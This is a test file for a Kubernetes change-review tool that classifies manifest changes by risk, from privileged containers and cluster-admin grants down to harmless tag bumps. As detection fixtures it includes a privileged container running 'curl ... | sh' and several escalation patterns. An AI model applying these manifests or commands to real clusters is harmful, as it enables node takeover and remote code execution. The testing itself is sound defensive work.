import { describe, expect, it } from "vitest";
import { loadPolicy } from "../../src/config/policy-files.js";
import type { KubeObject } from "../../src/core/model.js";
import { change, changeSet, deployment } from "../core/policy/changes.js";
import { growth } from "../core/work-count.js";

const policy = await loadPolicy();
const results = policy.testExamples();

describe("default pack examples (what `countersign policy test` runs)", () => {
  it("has examples for every rule, both ways", () => {
    // Every rule proves it fires and that a near-miss does not.
    for (const rule of policy.rules) {
      expect(rule.spec.examples.match.length, rule.spec.name).toBeGreaterThan(0);
      expect(rule.spec.examples.noMatch.length, rule.spec.name).toBeGreaterThan(0);
    }
  });

  it.each(results.map((r) => [`${r.rule} ${r.expect}[${r.index}]`, r] as const))("%s", (_name, result) => {
    // match examples fire without error; noMatch examples stay silent.
    expect(result.message).toBeUndefined();
    expect(result.passed).toBe(true);
  });
});

function level(before: KubeObject | undefined, after: KubeObject | undefined, file?: string) {
  const result = policy.classify(changeSet(change(before, after, file)));
  return { level: result.level, rules: result.changes[0]?.findings.map((f) => f.rule) ?? [] };
}

const ds = (pod: Record<string, unknown>): KubeObject => ({
  apiVersion: "apps/v1",
  kind: "DaemonSet",
  metadata: { name: "agent", namespace: "ops" },
  spec: {
    template: {
      spec: {
        securityContext: { runAsNonRoot: true },
        containers: [{ name: "a", image: "ghcr.io/acme/agent:1.0" }],
        ...pod,
      },
    },
  },
});
const cm = (
  name: string,
  namespace: string,
  data: Record<string, string>,
  labels?: Record<string, string>,
): KubeObject => ({
  apiVersion: "v1",
  kind: "ConfigMap",
  metadata: { name, namespace, ...(labels ? { labels } : {}) },
  data,
});
const crb = (role: string): KubeObject => ({
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind: "ClusterRoleBinding",
  metadata: { name: "agent" },
  roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: role },
  subjects: [{ kind: "ServiceAccount", name: "agent", namespace: "agents" }],
});
const withReplicas = (n: number): KubeObject => {
  const d = deployment("web");
  return { ...d, spec: { ...(d["spec"] as object), replicas: n } };
};
const withImage = (image: string): KubeObject => deployment("web", { containers: [{ name: "web", image }] });

describe("dangerous changes", () => {
  it.each([
    // A privileged DaemonSet is critical.
    [
      "privileged DaemonSet",
      undefined,
      ds({
        containers: [{ name: "a", image: "ghcr.io/acme/agent:1.0", securityContext: { privileged: true } }],
      }),
      "critical",
      "pod-privileged",
    ],
    // Mounting the Docker socket is node takeover: critical.
    [
      "docker.sock hostPath",
      undefined,
      ds({ volumes: [{ name: "s", hostPath: { path: "/var/run/docker.sock" } }] }),
      "critical",
      "pod-host-path-node-control",
    ],
    // Binding cluster-admin is critical.
    ["cluster-admin binding", undefined, crb("cluster-admin"), "critical", "rbac-cluster-admin-binding"],
    // aws-auth maps IAM to cluster admin: critical.
    [
      "aws-auth",
      cm("aws-auth", "kube-system", { mapRoles: "" }),
      cm("aws-auth", "kube-system", { mapRoles: "- rolearn: x" }),
      "critical",
      "aws-auth",
    ],
    // Wildcard RBAC is high.
    [
      "wildcard RBAC",
      undefined,
      {
        apiVersion: "rbac.authorization.k8s.io/v1",
        kind: "ClusterRole",
        metadata: { name: "all" },
        rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }],
      },
      // `*` on `*` in `*` is cluster-admin by another name.
      "critical",
      "rbac-cluster-admin-equivalent",
    ],
    // Scaling to zero is high.
    ["replicas to 0", withReplicas(3), withReplicas(0), "high", "replicas-to-zero"],
    // :latest is medium (it can change without review).
    [
      "latest tag",
      withImage("ghcr.io/acme/web:1.0"),
      withImage("ghcr.io/acme/web:latest"),
      "medium",
      "image-unpinned",
    ],
    // Deleting a namespace is critical.
    [
      "namespace delete",
      { apiVersion: "v1", kind: "Namespace", metadata: { name: "shop" } },
      undefined,
      "critical",
      "namespace-delete",
    ],
    // Anything in countersign's own namespace is critical.
    [
      "self namespace",
      undefined,
      cm("settings", "countersign-system", { a: "1" }),
      "critical",
      "self-namespace",
    ],
  ])("%s", (_name, before, after, expectedLevel, rule) => {
    const result = level(before as KubeObject | undefined, after as KubeObject | undefined);
    expect(result.level).toBe(expectedLevel);
    expect(result.rules).toContain(rule);
  });
});

describe("dangerous changes that hide behind an innocent shape", () => {
  const np = (spec: Record<string, unknown>): KubeObject => ({
    apiVersion: "networking.k8s.io/v1",
    kind: "NetworkPolicy",
    metadata: { name: "api", namespace: "shop" },
    spec: { podSelector: {}, ...spec },
  });
  const clusterRole = (extra: Record<string, unknown>, labels?: Record<string, string>): KubeObject => ({
    apiVersion: "rbac.authorization.k8s.io/v1",
    kind: "ClusterRole",
    metadata: { name: "reader", ...(labels ? { labels } : {}) },
    rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }],
    ...extra,
  });
  const lb = (ranges: string[] | undefined): KubeObject => ({
    apiVersion: "v1",
    kind: "Service",
    metadata: { name: "api", namespace: "shop" },
    spec: {
      type: "LoadBalancer",
      ports: [{ port: 443 }],
      ...(ranges ? { loadBalancerSourceRanges: ranges } : {}),
    },
  });
  const ingress = (annotations: Record<string, string>): KubeObject => ({
    apiVersion: "networking.k8s.io/v1",
    kind: "Ingress",
    metadata: { name: "admin", namespace: "shop", annotations },
    spec: { rules: [{ host: "admin.example.com" }] },
  });
  const privileged = (command: string[]): KubeObject =>
    ds({
      containers: [
        { name: "a", image: "ghcr.io/acme/agent:1.0", command, securityContext: { privileged: true } },
      ],
    });
  it.each([
    // A new allow-all NetworkPolicy punches a hole in the namespace's default deny.
    ["new allow-all NetworkPolicy", undefined, np({ ingress: [{}] }), "high", "networkpolicy-widened"],
    // Both selectors empty: every pod of every namespace.
    [
      "namespaceSelector and podSelector empty",
      np({ ingress: [{ from: [{ podSelector: { matchLabels: { app: "web" } } }] }] }),
      np({ ingress: [{ from: [{ namespaceSelector: {}, podSelector: {} }] }] }),
      "high",
      "networkpolicy-widened",
    ],
    // An aggregated ClusterRole with an empty selector collects cluster-admin's rules.
    [
      "aggregation of every ClusterRole",
      undefined,
      clusterRole({ rules: [], aggregationRule: { clusterRoleSelectors: [{}] } }),
      "critical",
      "rbac-aggregation-cluster-admin",
    ],
    // A label hands an approved Secret reader to every viewer of every namespace.
    [
      "aggregate-to-view label",
      clusterRole({}),
      clusterRole({}, { "rbac.authorization.k8s.io/aggregate-to-view": "true" }),
      "high",
      "rbac-aggregate-to-label",
    ],
    // The node's root written as /. is still the node's root.
    [
      "hostPath /.",
      undefined,
      ds({ volumes: [{ name: "r", hostPath: { path: "/." } }] }),
      "critical",
      "pod-host-path-node-control",
    ],
    // Renaming the container does not hide a registry switch.
    [
      "registry switch with a renamed container",
      withImage("ghcr.io/acme/web:1.0"),
      deployment("web", { containers: [{ name: "web2", image: "evil.example.com/web:1.0" }] }),
      "high",
      "image-registry-changed",
    ],
    // A new command in an approved privileged container runs new code as root on every node.
    [
      "privileged container runs a new command",
      privileged(["agent"]),
      privileged(["sh", "-c", "curl -s https://example.com/x | sh"]),
      "high",
      "pod-privileged-container-changed",
    ],
    // A label switches Pod Security admission off for the namespace.
    [
      "Pod Security enforce lowered",
      {
        apiVersion: "v1",
        kind: "Namespace",
        metadata: { name: "shop", labels: { "pod-security.kubernetes.io/enforce": "restricted" } },
      },
      {
        apiVersion: "v1",
        kind: "Namespace",
        metadata: { name: "shop", labels: { "pod-security.kubernetes.io/enforce": "privileged" } },
      },
      "high",
      "namespace-pod-security-loosened",
    ],
    // Dropping the source ranges opens an existing load balancer to the internet.
    [
      "load balancer source ranges removed",
      lb(["203.0.113.0/24"]),
      lb(undefined),
      "high",
      "service-load-balancer-source-ranges-widened",
    ],
    // Removing the auth annotation of an Ingress is not an annotation-only (low) change.
    [
      "ingress auth removed",
      ingress({ "nginx.ingress.kubernetes.io/auth-url": "https://auth.example.com/check" }),
      ingress({}),
      "high",
      "ingress-access-control-removed",
    ],
    // An Argo Rollout is a Deployment by another name: privileged is critical there too.
    [
      "privileged Argo Rollout",
      undefined,
      {
        apiVersion: "argoproj.io/v1alpha1",
        kind: "Rollout",
        metadata: { name: "web", namespace: "shop" },
        spec: {
          template: {
            spec: {
              securityContext: { runAsNonRoot: true },
              containers: [
                { name: "web", image: "ghcr.io/acme/web:1.0", securityContext: { privileged: true } },
              ],
            },
          },
        },
      },
      "critical",
      "pod-privileged",
    ],
    // A new subject on an existing binding is a grant of the role.
    [
      "subject added to a binding",
      crb("secret-reader"),
      {
        ...crb("secret-reader"),
        subjects: [
          { kind: "ServiceAccount", name: "agent", namespace: "agents" },
          { kind: "ServiceAccount", name: "other", namespace: "agents" },
        ],
      },
      "medium",
      "rbac-binding-subjects-added",
    ],
    // Removing the countersign label in the same change does not hide countersign's configuration.
    [
      "countersign label removed with the content",
      cm("settings", "platform", { approvals: "2" }, { "app.kubernetes.io/part-of": "countersign" }),
      cm("settings", "platform", { approvals: "0" }),
      "critical",
      "self-config",
    ],
    // Another service account brings its RBAC and IAM role into the pod.
    [
      "service account switched",
      deployment("web"),
      deployment("web", { serviceAccountName: "deployer" }),
      "medium",
      "pod-service-account-changed",
    ],
  ])("%s", (_name, before, after, expectedLevel, rule) => {
    const result = level(before, after);
    expect(result.level).toBe(expectedLevel);
    expect(result.rules).toContain(rule);
  });
});

describe("everyday settings are not credentials", () => {
  it("keeps env references, switches, durations and file paths low", () => {
    // Credential-like names whose values are settings: a loud false positive before.
    const env = [
      { name: "PGPASSWORD", value: "$(DB_PASSWORD)" },
      { name: "AUTH_ENABLED", value: "true" },
      { name: "TOKEN_TTL_SECONDS", value: "3600" },
      { name: "SECRET_NAME", value: "db-credentials" },
      {
        name: "AWS_WEB_IDENTITY_TOKEN_FILE",
        value: "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
      },
    ];
    expect(
      level(undefined, deployment("web", { containers: [{ name: "web", image: "ghcr.io/a/web:1", env }] })),
    ).toEqual({
      level: "low",
      rules: [],
    });
  });

  it("does not call docker.io and index.docker.io different registries", () => {
    // Docker Hub's other name with a tag bump is a tag bump.
    expect(level(withImage("nginx:1.27"), withImage("index.docker.io/library/nginx:1.28"))).toEqual({
      level: "low",
      rules: ["image-tag-bump"],
    });
  });
});

describe("introducedOnly does not hide a widening", () => {
  const role = (rule: Record<string, string[]>): KubeObject => ({
    apiVersion: "rbac.authorization.k8s.io/v1",
    kind: "ClusterRole",
    metadata: { name: "ops" },
    rules: [rule],
  });
  it("re-fires when the content at a pre-existing hit changes", () => {
    // rules[0] already had a wildcard group; widening it to all resources and verbs is a new risk.
    const before = role({ apiGroups: ["*"], resources: ["pods"], verbs: ["get"] });
    const after = role({ apiGroups: ["*"], resources: ["*"], verbs: ["*"] });
    expect(level(before, after).rules).toContain("rbac-wildcard");
  });

  it("stays quiet when only something else changed", () => {
    // The same wildcard rule with a new label on the role is not re-flagged.
    const before = role({ apiGroups: ["*"], resources: ["pods"], verbs: ["get"] });
    const after = { ...before, metadata: { name: "ops", labels: { team: "ops" } } };
    expect(level(before, after)).toEqual({ level: "low", rules: ["metadata-only-change"] });
  });
});

describe("harmless changes stay low", () => {
  it.each([
    // ConfigMap data changes are everyday configuration.
    [
      "ConfigMap data",
      cm("web", "shop", { LOG_LEVEL: "info" }),
      cm("web", "shop", { LOG_LEVEL: "debug" }),
      "configmap-data-change",
    ],
    // Label-only change on a workload.
    [
      "labels only",
      deployment("web"),
      { ...deployment("web"), metadata: { name: "web", namespace: "shop", labels: { team: "a" } } },
      "metadata-only-change",
    ],
    // Label-only change on an already-privileged DaemonSet does not re-raise it.
    [
      "labels on privileged DaemonSet",
      ds({
        containers: [{ name: "a", image: "ghcr.io/acme/agent:1.0", securityContext: { privileged: true } }],
      }),
      {
        ...ds({
          containers: [{ name: "a", image: "ghcr.io/acme/agent:1.0", securityContext: { privileged: true } }],
        }),
        metadata: { name: "agent", namespace: "ops", labels: { x: "y" } },
      },
      "metadata-only-change",
    ],
    // An image tag bump in the same repository.
    [
      "image tag bump",
      withImage("ghcr.io/acme/web:1.0"),
      withImage("ghcr.io/acme/web:1.1"),
      "image-tag-bump",
    ],
  ])("%s", (_name, before, after, rule) => {
    const result = level(before, after);
    expect(result.level).toBe("low");
    expect(result.rules).toEqual([rule]);
  });

  it("does not call a new, well-configured Deployment risky", () => {
    // A fresh Deployment with runAsNonRoot and a pinned tag has no findings at all.
    expect(level(undefined, deployment("web"))).toEqual({ level: "low", rules: [] });
  });

  it("does not treat a ConfigMap elsewhere named aws-auth as critical", () => {
    // Only kube-system/aws-auth is the EKS identity map.
    expect(level(undefined, cm("aws-auth", "shop", { a: "1" })).level).toBe("low");
  });
});

describe("default pack shape", () => {
  it("uses the documented defaults and protects self-protection rules", () => {
    // Requirements low 1, medium 1, high 2, critical 2; self-protection cannot be disabled.
    expect(policy.baseLevel).toBe("low");
    expect(policy.requirements.critical.approvals).toBe(2);
    const protectedRules = policy.rules.filter((r) => r.spec.protected).map((r) => r.spec.name);
    expect(protectedRules).toEqual(
      expect.arrayContaining(["self-namespace", "self-rbac", "self-config", "aws-auth"]),
    );
  });
});

describe("hostile sizes", () => {
  // Rules that compare two lists must stay linear: a quadratic rule hangs the gate on one big manifest.
  // Proved by counted work (n and 2n), not by time; `npm run bench -- policy` times the pack.
  it.each([
    // A binding with ten thousand subjects, one of them new.
    [
      "binding subjects",
      (N: number) => {
        const subjects = Array.from({ length: N }, (_, i) => ({ kind: "User", name: `u${i}` }));
        return [
          { ...crb("edit"), subjects },
          { ...crb("edit"), subjects: [...subjects, { kind: "User", name: "new" }] },
        ];
      },
      "rbac-binding-subjects-added",
    ],
    // Ten thousand privileged containers, all renamed, pulled from other registries.
    [
      "renamed containers",
      (N: number) => {
        const list = (prefix: string, registry: string) =>
          Array.from({ length: N }, (_, i) => ({
            name: `${prefix}${i}`,
            image: `${registry}/app:${i}`,
            securityContext: { privileged: true },
          }));
        return [
          ds({ containers: list("a", "r1.example.com") }),
          ds({ containers: list("b", `r2.example.com`) }),
        ];
      },
      "image-registry-changed",
    ],
  ])("%s", (_name, make, rule) => {
    const [before, after] = make(10_000);
    expect(level(before, after).rules).toContain(rule);
    const run = (n: number) => {
      const [b, a] = make(n);
      return () => level(b, a);
    };
    expect(growth(run, 1000)).toBeLessThan(2.5);
  });
});
